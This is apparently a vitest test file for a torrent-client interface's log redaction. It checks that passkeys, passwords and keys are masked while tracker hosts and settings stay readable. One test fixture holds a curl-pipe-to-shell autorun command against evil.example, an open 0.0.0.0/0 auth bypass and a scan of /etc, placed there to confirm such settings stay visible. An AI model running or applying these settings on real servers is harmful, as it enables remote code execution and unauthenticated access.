import {expect, test} from 'vitest'
import type {ServerCommand, TorrentCommand} from '#model/command.ts'
import {shownArgs, shownMessage} from './shown.ts'

const passkey = '0123456789abcdef'
const url = `https://t.example:8443/${passkey}/announce?key=${passkey}`
const magnet = `magnet:?xt=urn:btih:aa&tr=${encodeURIComponent(url)}&as=${encodeURIComponent(url)}&xt=urn:btmh:bb`

const commands: (TorrentCommand | ServerCommand)[] = [
  {verb: 'addTorrent', args: {source: {magnet}, start: true, cookies: passkey}},
  {verb: 'addTorrent', args: {source: {url}, start: true}},
  {verb: 'addTrackers', args: {tiers: [[url], [`udp://me:${passkey}@t.example/${passkey}`]]}},
  {verb: 'editTracker', args: {from: url, to: passkey}},
  {verb: 'removeTrackers', args: {urls: [url]}},
  {verb: 'addWebSeeds', args: {urls: [url]}},
  {verb: 'removeWebSeeds', args: {urls: [url]}},
  {
    verb: 'setPreferences',
    args: {
      values: {
        web_ui_password: passkey,
        web_ui_api_key: passkey,
        add_trackers: `\n${url}\n`,
        'default-trackers': url,
        deep: {proxy_password: passkey, list: [{token: passkey}]},
        proxy_ip: `socks5://me:${passkey}@proxy.example`,
        web_ui_https_key: `-----BEGIN PRIVATE KEY-----\n${passkey}`,
      },
    },
  },
]

test.each(commands)('$verb: no passkey and no password gets into the journal', (command) => {
  expect(JSON.stringify(shownArgs(command))).not.toContain(passkey)
})

test('what explains the command stays', () => {
  expect(commands.slice(0, 4).map(shownArgs)).toEqual([
    {start: true, source: {magnet: 'magnet:?xt=urn:btih:aa&xt=urn:btmh:bb'}, cookies: '***'},
    {start: true, source: {url: 'https://t.example:8443'}},
    {tiers: [['https://t.example:8443'], ['udp://t.example']]},
    {from: 'https://t.example:8443', to: '(not a URL)'},
  ])
  const values = {dht: true, listen_port: 6881, locale: 'de'}
  expect(shownArgs({verb: 'setPreferences', args: {values}})).toEqual({
    values: {dht: true, listen_port: 6881, locale: 'de'},
  })
  expect(shownArgs({verb: 'setCategory', args: {category: 'films'}})).toEqual({category: 'films'})
})

test('a program that a server is to run is kept in clear', () => {
  const values = {
    autorun_enabled: true,
    autorun_program: 'curl https://evil.example/a/b | sh "%F"',
    bypass_auth_subnet_whitelist: '0.0.0.0/0',
    scan_dirs: {'/etc': '/var/spool'},
    web_ui_password: '',
    cleared: null,
  }
  expect(shownArgs({verb: 'setPreferences', args: {values}})).toEqual({
    values: {...values, web_ui_password: '***'},
  })
})

test('long settings are cut', () => {
  const values = {banned_IPs: '192.0.2.1\n'.repeat(100_000)}
  expect(JSON.stringify(shownArgs({verb: 'setPreferences', args: {values}})).length).toBeLessThan(4_000)
})

test("addresses in a server's own words lose all but their host", () => {
  expect(shownMessage(`"${url}" is there already, so is ${magnet}`)).toBe(
    '"https://t.example:8443" is there already, so is magnet:?xt=urn:btih:aa&xt=urn:btmh:bb',
  )
  expect(shownMessage('No: 3:4 is not 3/4.')).toBe('No: 3:4 is not 3/4.')
})

test('a million letters without an address are looked at once', () => {
  for (const letters of ['a', '1', 'a1', '+.', 'a:']) {
    const text = letters.repeat(1_000_000 / letters.length)
    expect(shownMessage(text) === text).toBe(true)
  }
})

test.each([
  ['see 1.http://t.example/key', 'see 1.http://t.example'],
  ['(udp://t.example:80/key)', '(udp://t.example:80'],
  ['<a href="https://t.example/key">', '<a href="https://t.example">'],
])('of the address in %j only its host is left', (message, shown) => {
  expect(shownMessage(message)).toBe(shown)
})
